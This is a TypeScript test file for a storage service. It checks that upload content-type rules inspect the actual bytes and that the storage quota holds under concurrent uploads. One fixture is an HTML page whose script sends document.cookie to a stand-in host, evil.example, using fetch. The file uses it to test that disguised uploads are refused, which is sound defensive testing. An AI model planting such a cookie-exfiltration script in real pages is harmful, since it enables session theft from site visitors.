// Storage policies that mean what they say, and a quota that holds under concurrency: a `content_types` rule is
// checked against what the bytes are (not what the uploader declared), and uploads in progress reserve their
// share of the quota, so concurrent uploads cannot each stream the whole remainder.
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startOneProcess, type TestPlatform } from '../support/platform.ts';
import { client, type Res } from '../support/http.ts';
import { newProject, passwordGrant, registerUser, type Project } from '../e2e/identity/identity-fixtures.ts';
import { STORAGE, upload, type Part } from '../e2e/storage/storage-fixtures.ts';
import { attackTable } from './attack-table.ts';

const MIB = 1024 * 1024;
// The first bytes of a real PNG (signature and IHDR chunk of a 1×1 image).
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a1a5f2a60000000049454e44ae426082',
  'hex',
);
const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>',
);

let p: TestPlatform;
let call: ReturnType<typeof client>;
let project: Project;
let token: string;
let other: Project;

const file = (name: string, contentType: string, body: Buffer, folder = 'avatars'): Part[] => [
  { name: 'folder', value: folder },
  { name: 'confirm', value: 'true' },
  { name: 'file', filename: name, contentType, body },
];

const objectsIn = async (folder: string, p2: Project = project) =>
  (await call('GET', `${STORAGE}/objects?folder=${folder}`, { apiKey: p2.apiKey })).body.objects as {
    name: string;
    content_type: string;
  }[];

beforeAll(async () => {
  p = await startOneProcess({ TESSERA_STORAGE_MAX_UPLOAD_BYTES: String(2 * MIB) });
  // A small quota (an operator's plan change), before anyone reads the plans.
  const db = new pg.Client({ connectionString: p.tessera!.config.databaseUrl });
  await db.connect();
  await db.query(`update plans set max_storage_bytes = $1 where id = 'free'`, [3 * MIB]);
  await db.end();
  call = client(p.url);
  project = await newProject(p.url);
  other = await newProject(p.url);
  const policy = {
    name: 'own avatars',
    folder: 'avatars',
    operations: ['read', 'write', 'list'],
    principal: 'owner',
    content_types: ['image/*'],
  };
  expect((await call('POST', `${STORAGE}/policies`, { apiKey: project.apiKey, body: policy })).status).toBe(201);
  expect(
    (
      await call('POST', `${STORAGE}/policies`, {
        apiKey: project.apiKey,
        body: {
          name: 'notes',
          folder: 'notes',
          operations: ['write', 'list'],
          principal: 'authenticated',
          content_types: ['text/plain'],
        },
      })
    ).status,
  ).toBe(201);
  const user = await registerUser(p.url, project);
  token = (await passwordGrant(p.url, project, user)).body.access_token;
}, 60_000);

afterAll(async () => {
  await p?.close();
});

describe('content_types rules check the bytes', () => {
  attackTable([
    {
      name: 'an end-user uploads HTML declared as image/png into an image-only folder',
      attack: () => upload(p.url, file('me.png', 'image/png', HTML), { token }),
      refused: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      intact: async () => expect(await objectsIn('avatars')).toEqual([]),
    },
    {
      name: 'an end-user uploads HTML declared as image/gif (a format its bytes would show if it were one)',
      attack: () => upload(p.url, file('me.gif', 'image/gif', HTML), { token }),
      refused: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
    },
    {
      name: 'an end-user uploads a PNG declared as text/plain into a text-only folder',
      attack: () => upload(p.url, file('notes.txt', 'text/plain', PNG, 'notes'), { token }),
      refused: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
      intact: async () => expect(await objectsIn('notes')).toEqual([]),
    },
  ]);

  it('takes an image that is one, under the type its bytes show', async () => {
    expect((await upload(p.url, file('a.png', 'image/png', PNG), { token })).status).toBe(201);
    // Declared wrongly but an image: allowed, recorded as what it is.
    const mislabelled = await upload(p.url, file('b.jpg', 'image/jpeg', PNG), { token });
    expect(mislabelled.status).toBe(201);
    expect(mislabelled.body.object.content_type).toBe('image/png');
    // Text the bytes cannot tell keeps its declared type.
    expect((await upload(p.url, file('n.txt', 'text/plain', Buffer.from('hello'), 'notes'), { token })).status).toBe(
      201,
    );
    // The API key is not held to policies: what it declares is stored.
    expect((await upload(p.url, file('raw.html', 'text/html', HTML, 'site'), { apiKey: project.apiKey })).status).toBe(
      201,
    );
  });
});

/** A body that streams `size` bytes slowly, until `release` is called. */
function slowBody(size: number): {
  body: () => AsyncIterable<Uint8Array>;
  started: Promise<void>;
  release: () => void;
} {
  let release!: () => void;
  let started!: () => void;
  const gate = new Promise<void>((r) => (release = r));
  const begun = new Promise<void>((r) => (started = r));
  return {
    started: begun,
    release,
    body: async function* () {
      yield new Uint8Array(64 * 1024);
      started();
      await gate;
      for (let sent = 64 * 1024; sent < size; sent += 64 * 1024) yield new Uint8Array(Math.min(64 * 1024, size - sent));
    },
  };
}

describe('the quota under concurrent uploads', () => {
  attackTable([
    {
      name: 'a second upload starts while a first, of unknown length, streams: it cannot also be handed the whole remainder',
      attack: async () => {
        const slow = slowBody(1.5 * MIB);
        const first = upload(
          p.url,
          [
            { name: 'folder', value: 'big' },
            { name: 'file', filename: 'one.bin', body: slow.body },
          ],
          { apiKey: project.apiKey },
        );
        await slow.started;
        // The first (chunked: no length) reserved what it may carry: 2 MiB of the ~3 MiB left. Wait until its ticket exists.
        let second: Res | undefined;
        for (let i = 0; i < 50; i++) {
          second = await upload(
            p.url,
            [
              { name: 'folder', value: 'big' },
              { name: 'file', filename: 'two.bin', body: Buffer.alloc(1.5 * MIB) },
            ],
            { apiKey: project.apiKey },
          );
          if (second.status !== 201) break;
          await call('DELETE', `${STORAGE}/objects/${second.body.object.id}`, { apiKey: project.apiKey });
        }
        slow.release();
        expect((await first).status).toBe(201);
        return second!;
      },
      refused: { status: 413, code: 'QUOTA_EXCEEDED' },
      intact: async () => {
        // Another project's uploads are not affected, and this project's usage is what it stored.
        expect((await upload(p.url, file('x.png', 'image/png', PNG, 'o'), { apiKey: other.apiKey })).status).toBe(201);
        const usage = (await call('GET', `${STORAGE}/usage`, { apiKey: project.apiKey })).body.usage;
        expect(usage.bytes + usage.pending_bytes).toBeLessThanOrEqual(3 * MIB);
      },
    },
  ]);
});
